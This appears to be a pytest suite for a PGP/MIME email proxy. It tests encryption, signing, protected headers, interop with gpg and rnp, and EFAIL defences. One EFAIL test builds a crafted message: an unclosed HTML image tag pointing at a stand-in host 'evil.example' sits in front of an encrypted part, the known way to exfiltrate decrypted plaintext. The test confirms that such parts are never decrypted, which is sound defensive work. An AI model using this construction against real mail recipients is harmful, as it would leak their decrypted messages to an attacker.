"""PGP/MIME and inline PGP: build, unwrap, header protection, EFAIL rules, interop."""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from localproxy.crypto.openpgp import SignatureStatus, default_engine
from localproxy.crypto.pgpmime import (
    PROTECTED_SUBJECT,
    Kind,
    classify,
    encrypt_message,
    sign_message,
    strip_headers,
    unwrap,
)
from localproxy.mime import is_content_header, parse_entity, to_crlf

ENGINE = default_engine()
ALICE = ENGINE.generate_key(["Alice <alice@example.org>"])
BOB = ENGINE.generate_key(["Bob <bob@example.org>"])
EVE = ENGINE.generate_key(["Eve <eve@example.org>"])
ALICE_PUB = ENGINE.public_only(ALICE.data)
BOB_PUB = ENGINE.public_only(BOB.data)

MESSAGE = (
    b"From: Alice <alice@example.org>\r\nTo: Bob <bob@example.org>\r\n"
    b"Subject: Quarterly numbers\r\nDate: Mon, 02 Mar 2026 10:00:00 +0000\r\n"
    b"Message-ID: <q1@example.org>\r\nKeywords: secret-project\r\nMIME-Version: 1.0\r\n"
    b'Content-Type: multipart/mixed; boundary="b1"\r\n\r\n'
    b"--b1\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit"
    b"\r\n\r\nGr\xc3\xbc\xc3\x9fe, the numbers are attached.   \r\n"
    b'--b1\r\nContent-Type: application/octet-stream; name="n.bin"\r\n'
    b"Content-Transfer-Encoding: base64\r\n\r\nAAECAwQ=\r\n--b1--\r\n"
)


def content_entity(raw: bytes) -> bytes:
    """What encryption must carry unchanged: content headers and body, CRLF."""
    entity = parse_entity(to_crlf(raw))
    return b"".join(h.raw for h in entity.headers if is_content_header(h)) + b"\r\n" + entity.body


def header(raw: bytes, name: str) -> str | None:
    found = parse_entity(raw).get(name)
    return found.value if found else None


# --------------------------------------------------------------------------- encrypted


def test_encrypted_message_hides_subject_and_round_trips():
    wire = encrypt_message(MESSAGE, ENGINE, [BOB_PUB, ALICE_PUB], signer=ALICE.data)
    outer = parse_entity(wire)
    assert outer.content_type == "multipart/encrypted"
    assert outer.params["protocol"] == "application/pgp-encrypted"
    assert header(wire, "Subject") == PROTECTED_SUBJECT
    assert header(wire, "Keywords") is None
    assert b"Quarterly" not in wire and b"numbers are attached" not in wire
    assert [p.content_type for p in outer.parts] == [
        "application/pgp-encrypted",
        "application/octet-stream",
    ]
    result = unwrap(wire, ENGINE, [BOB.data], [ALICE_PUB])
    assert result.kind == Kind.PGP_ENCRYPTED and result.decrypted and result.error is None
    assert result.protected_headers
    assert header(result.message, "Subject") == "Quarterly numbers", "inner headers win"
    assert header(result.message, "Keywords") == "secret-project"
    assert result.message.count(b"Subject:") == 1 and b"HP-Outer" not in result.message
    assert (
        content_entity(result.message).split(b"\r\n", 1)[1]
        == content_entity(MESSAGE).split(b"\r\n", 1)[1]
    )
    assert [s.status for s in result.signatures] == [SignatureStatus.VALID]
    assert result.signatures[0].fingerprint == ALICE.fingerprint
    assert result.decrypted_with in {BOB.fingerprint, *BOB.subkey_fingerprints}


def test_inner_entity_carries_hp_markers_and_hp_outer():
    wire = encrypt_message(MESSAGE, ENGINE, [BOB_PUB])
    armored = parse_entity(wire).parts[1].body
    inner = ENGINE.decrypt(armored, [BOB.data]).plaintext
    ctype = parse_entity(inner).get("Content-Type").value
    assert 'protected-headers="v1"' in ctype and 'hp="cipher"' in ctype
    assert b"HP-Outer: Subject: [...]\r\n" in inner
    assert b"Subject: Quarterly numbers\r\n" in inner


def test_without_header_protection_the_subject_stays_outside():
    wire = encrypt_message(MESSAGE, ENGINE, [BOB_PUB], protect_headers=False)
    assert header(wire, "Subject") == "Quarterly numbers"
    result = unwrap(wire, ENGINE, [BOB.data])
    assert not result.protected_headers
    assert content_entity(result.message) == content_entity(MESSAGE)


def test_bcc_never_appears_in_either_layer():
    raw = MESSAGE.replace(b"Keywords:", b"Bcc: hidden@example.org\r\nKeywords:")
    wire = encrypt_message(raw, ENGINE, [BOB_PUB])
    assert b"hidden@example.org" not in wire
    assert b"hidden@example.org" not in unwrap(wire, ENGINE, [BOB.data]).message


def test_bare_lf_input_is_canonicalized_and_nothing_more():
    raw = b"From: a@example.org\nSubject: lf\nContent-Type: text/plain\n\nline one\nline two\n"
    result = unwrap(encrypt_message(raw, ENGINE, [BOB_PUB]), ENGINE, [BOB.data])
    assert result.message.endswith(b"\r\n\r\nline one\r\nline two\r\n")


def test_wrong_key_keeps_the_message_and_says_why():
    wire = encrypt_message(MESSAGE, ENGINE, [BOB_PUB])
    result = unwrap(wire, ENGINE, [EVE.data])
    assert not result.decrypted and result.message == wire
    assert result.error and "not encrypted to" in result.error.lower()


def test_corrupt_ciphertext_releases_nothing():
    wire = encrypt_message(MESSAGE, ENGINE, [BOB_PUB])
    lines = wire.split(b"\r\n")
    index = next(i for i, line in enumerate(lines) if line.startswith(b"-----BEGIN")) + 6
    lines[index] = (
        lines[index][:10] + (b"A" if lines[index][10:11] != b"A" else b"B") + lines[index][11:]
    )
    corrupt = b"\r\n".join(lines)
    result = unwrap(corrupt, ENGINE, [BOB.data])
    assert not result.decrypted and result.message == corrupt and result.error


def test_malformed_pgp_mime_structure_is_reported():
    raw = (
        b'Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; '
        b"boundary=x\r\n\r\n--x\r\nContent-Type: text/plain\r\n\r\nhi\r\n--x--\r\n"
    )
    result = unwrap(raw, ENGINE, [BOB.data])
    assert result.kind == Kind.PGP_ENCRYPTED and not result.decrypted
    assert "1 parts instead of 2" in result.error


# --------------------------------------------------------------------------- EFAIL


def test_encrypted_part_inside_a_mixed_message_is_never_decrypted():
    armored = ENGINE.encrypt(b"Content-Type: text/plain\r\n\r\nsecret", [BOB_PUB])
    raw = (
        b"Content-Type: multipart/mixed; boundary=m\r\n\r\n--m\r\nContent-Type: text/html"
        b'\r\n\r\n<img src="http://evil.example/?\r\n--m\r\nContent-Type: multipart/encrypted;'
        b' protocol="application/pgp-encrypted"; boundary=e\r\n\r\n--e\r\nContent-Type: '
        b"application/pgp-encrypted\r\n\r\nVersion: 1\r\n--e\r\nContent-Type: application/"
        b"octet-stream\r\n\r\n" + armored + b"\r\n--e--\r\n--m--\r\n"
    )
    result = unwrap(raw, ENGINE, [BOB.data])
    assert result.kind == Kind.PLAIN and not result.decrypted and result.message == raw


def test_inline_block_with_surrounding_text_is_not_decrypted():
    armored = ENGINE.encrypt(b"secret", [BOB_PUB])
    raw = b"Content-Type: text/plain\r\n\r\nClick here: " + armored + b"\r\nthanks\r\n"
    assert unwrap(raw, ENGINE, [BOB.data]).kind == Kind.PLAIN


def test_inline_pgp_body_that_is_one_block_is_decrypted():
    armored = ENGINE.encrypt("Grüße aus Köln\n".encode(), [BOB_PUB], signer=ALICE.data)
    raw = (
        b"From: alice@example.org\r\nSubject: inline\r\nContent-Type: text/plain; "
        b"charset=utf-8\r\n\r\n\r\n" + armored + b"\r\n"
    )
    result = unwrap(raw, ENGINE, [BOB.data], [ALICE_PUB])
    assert result.kind == Kind.INLINE_ENCRYPTED and result.decrypted
    assert result.message.endswith("Grüße aus Köln\r\n".encode())
    assert b"Content-Transfer-Encoding: 8bit" in result.message
    assert header(result.message, "Subject") == "inline"
    assert result.signatures[0].status == SignatureStatus.VALID


def test_forged_status_headers_are_stripped():
    raw = (
        b"X-LocalProxy-Security: decrypted; signature=valid\r\nSubject: hi\r\n"
        b"x-localproxy-status: ok\r\n\r\nbody\r\n"
    )
    assert strip_headers(raw) == b"Subject: hi\r\n\r\nbody\r\n"


# --------------------------------------------------------------------------- signed


def test_signed_message_verifies_and_8bit_is_made_quoted_printable():
    wire = sign_message(MESSAGE, ENGINE, ALICE.data)
    entity = parse_entity(wire)
    assert entity.content_type == "multipart/signed"
    assert entity.params["micalg"].startswith("pgp-sha")
    assert all(b < 0x80 for b in wire), "everything under a signature is 7-bit"
    assert b"Content-Transfer-Encoding: quoted-printable" in entity.parts[0].raw
    assert b"AAECAwQ=" in entity.parts[0].raw, "7-bit parts keep their exact bytes"
    result = unwrap(wire, ENGINE, [], [ALICE_PUB])
    assert result.kind == Kind.PGP_SIGNED and result.message == wire
    assert [s.status for s in result.signatures] == [SignatureStatus.VALID]


def test_altered_signed_content_is_invalid():
    wire = sign_message(MESSAGE, ENGINE, ALICE.data).replace(b"attached", b"attacked")
    (sig,) = unwrap(wire, ENGINE, [], [ALICE_PUB]).signatures
    assert sig.status == SignatureStatus.INVALID


def test_signature_by_unknown_key():
    wire = sign_message(MESSAGE, ENGINE, ALICE.data)
    (sig,) = unwrap(wire, ENGINE, [], [BOB_PUB]).signatures
    assert sig.status == SignatureStatus.UNKNOWN_KEY


# --------------------------------------------------------------------------- round trip


_header_value = st.text(st.characters(min_codepoint=0x20, max_codepoint=0x7E), max_size=60)
_body_line = st.binary(max_size=120).map(lambda b: b.replace(b"\r", b"").replace(b"\n", b""))


@st.composite
def messages(draw) -> bytes:
    headers = [
        f"From: {draw(_header_value)} <a@example.org>",
        "To: b@example.org",
        f"Subject: {draw(_header_value)}",
    ]
    lines = draw(st.lists(_body_line, max_size=30))
    body = b"\r\n".join(lines)
    if draw(st.booleans()):
        boundary = "zz-" + draw(st.text("abcdef0123456789", min_size=4, max_size=10))
        ctype = f'multipart/mixed; boundary="{boundary}"'
        body = (
            f"--{boundary}\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n".encode()
            + body
            + f"\r\n--{boundary}--\r\n".encode()
        )
    else:
        ctype = "text/plain; charset=utf-8"
    newline = draw(st.sampled_from([b"\r\n", b"\n"]))
    head = "\r\n".join([*headers, f"Content-Type: {ctype}"]).encode()
    return (head + b"\r\n\r\n" + body).replace(b"\r\n", newline)


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(messages(), st.booleans())
def test_any_message_survives_encrypt_then_decrypt(raw, protect):
    wire = encrypt_message(raw, ENGINE, [BOB_PUB], signer=ALICE.data, protect_headers=protect)
    result = unwrap(wire, ENGINE, [BOB.data], [ALICE_PUB])
    assert result.decrypted, result.error
    view_entity = parse_entity(result.message)
    original = parse_entity(to_crlf(raw))
    assert view_entity.body == original.body
    assert view_entity.get("Subject").raw == original.get("Subject").raw
    assert result.signatures[0].status == SignatureStatus.VALID


@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(messages())
def test_any_message_signs_and_verifies(raw):
    result = unwrap(sign_message(raw, ENGINE, ALICE.data), ENGINE, [], [ALICE_PUB])
    assert [s.status for s in result.signatures] == [SignatureStatus.VALID]


def test_classify_only_looks_at_the_top_level():
    assert classify(parse_entity(MESSAGE)) == Kind.PLAIN
    smime = b"Content-Type: application/pkcs7-mime; smime-type=enveloped-data\r\n\r\nMII="
    assert classify(parse_entity(smime)) == Kind.SMIME


# --------------------------------------------------------------------------- interop


def _tool(name: str) -> str:
    path = shutil.which(name)
    if path is None:
        pytest.skip(f"{name} not installed")
    return path


def _gpg(home: Path, *args: str, stdin: bytes = b"") -> bytes:
    home.mkdir(mode=0o700, exist_ok=True)
    done = subprocess.run(
        [
            _tool("gpg"),
            "--homedir",
            str(home),
            "--batch",
            "--yes",
            "--pinentry-mode",
            "loopback",
            "--passphrase",
            "",
            *args,
        ],
        input=stdin,
        capture_output=True,
        timeout=60,
    )
    assert done.returncode == 0, done.stderr.decode()
    return done.stdout


@pytest.mark.interop
def test_gpg_decrypts_our_pgp_mime_payload_to_the_exact_inner_entity(tmp_path, gnupg_home):
    home = gnupg_home
    _gpg(home, "--import", stdin=ENGINE.armor(BOB.data, kind="secret-key"))
    _gpg(home, "--import", stdin=ENGINE.armor(ALICE_PUB, kind="public-key"))
    wire = encrypt_message(MESSAGE, ENGINE, [BOB_PUB], signer=ALICE.data)
    armored = parse_entity(wire).parts[1].body
    status_file = tmp_path / "status"
    inner = _gpg(home, "--status-file", str(status_file), "--decrypt", stdin=armored)
    assert inner.endswith(parse_entity(to_crlf(MESSAGE)).body)
    assert f"VALIDSIG {ALICE.fingerprint}".encode() in status_file.read_bytes()


@pytest.mark.interop
def test_rnp_decrypts_our_pgp_mime_payload(tmp_path):
    rnp, rnpkeys = _tool("rnp"), _tool("rnpkeys")
    home = tmp_path / "rnp"
    home.mkdir()
    (tmp_path / "bob.asc").write_bytes(ENGINE.armor(BOB.data, kind="secret-key"))
    (tmp_path / "alice.asc").write_bytes(ENGINE.armor(ALICE_PUB, kind="public-key"))
    for key in ("bob.asc", "alice.asc"):
        subprocess.run(
            [rnpkeys, "--homedir", str(home), "--import", str(tmp_path / key)],
            check=True,
            capture_output=True,
            timeout=60,
        )
    wire = encrypt_message(MESSAGE, ENGINE, [BOB_PUB], signer=ALICE.data)
    (tmp_path / "msg.asc").write_bytes(parse_entity(wire).parts[1].body)
    done = subprocess.run(
        [rnp, "--homedir", str(home), "--decrypt", str(tmp_path / "msg.asc"), "--output", "-"],
        capture_output=True,
        timeout=60,
    )
    assert done.returncode == 0, done.stderr.decode()
    assert done.stdout.endswith(parse_entity(to_crlf(MESSAGE)).body)
    assert b"Good signature" in done.stderr or b"Valid signature" in done.stderr


@pytest.mark.interop
def test_we_unwrap_pgp_mime_that_gpg_encrypted_and_signed(gnupg_home):
    home = gnupg_home
    _gpg(home, "--quick-gen-key", "Carol <carol@example.org>", "ed25519", "sign,cert", "never")
    fpr = next(
        line.split(":")[9]
        for line in _gpg(home, "--with-colons", "--list-keys").decode().splitlines()
        if line.startswith("fpr")
    )
    _gpg(home, "--quick-add-key", fpr, "cv25519", "encr", "never")
    _gpg(home, "--import", stdin=ENGINE.armor(BOB_PUB, kind="public-key"))
    inner = b"Content-Type: text/plain; charset=utf-8\r\n\r\nfrom gpg, signed\r\n"
    armored = _gpg(
        home,
        "--armor",
        "--trust-model",
        "always",
        "--sign",
        "--local-user",
        fpr,
        "--encrypt",
        "--recipient",
        BOB.fingerprint,
        stdin=inner,
    )
    raw = (
        b"From: carol@example.org\r\nSubject: via gpg\r\nMIME-Version: 1.0\r\n"
        b'Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; '
        b"boundary=g\r\n\r\n--g\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1"
        b"\r\n\r\n--g\r\nContent-Type: application/octet-stream\r\n\r\n"
        + armored
        + b"\r\n--g--\r\n"
    )
    carol = _gpg(home, "--export", fpr)
    result = unwrap(raw, ENGINE, [BOB.data], [carol])
    assert result.decrypted and result.message.endswith(b"\r\n\r\nfrom gpg, signed\r\n")
    assert header(result.message, "Subject") == "via gpg"
    assert result.signatures[0].status == SignatureStatus.VALID
    assert result.signatures[0].fingerprint == fpr
